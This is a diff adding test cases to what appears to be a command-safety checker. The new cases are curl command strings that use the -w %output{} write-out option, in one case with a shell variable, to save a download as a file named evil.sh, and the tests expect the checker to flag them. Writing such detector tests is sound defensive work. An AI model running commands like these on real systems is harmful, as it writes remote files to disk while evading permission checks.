@@ -680,6 +680,13 @@ describe("a curl option filled in from a variable", () => {
     expect(downloadExecution(command, new Set())).toBeDefined();
   });
 
+  it.each([
+    'F=evil.sh; curl -s -o /dev/null -w "%output{$F}%header{x-run}" https://x.test/a',
+    'curl -s -w "%output{evil.sh}%header{x}$X" https://x.test/a',
+  ])("asks before %s, a -w %%output{} bash expands", (command) => {
+    expect(lineDownloads(command).unplaced).toBe(true);
+  });
+
   it("leaves one that writes nothing alone", () => {
     expect(lineDownloads("curl --variable x=1 --expand-data '{{x}}' https://x.test/a")).toEqual({
       targets: [],
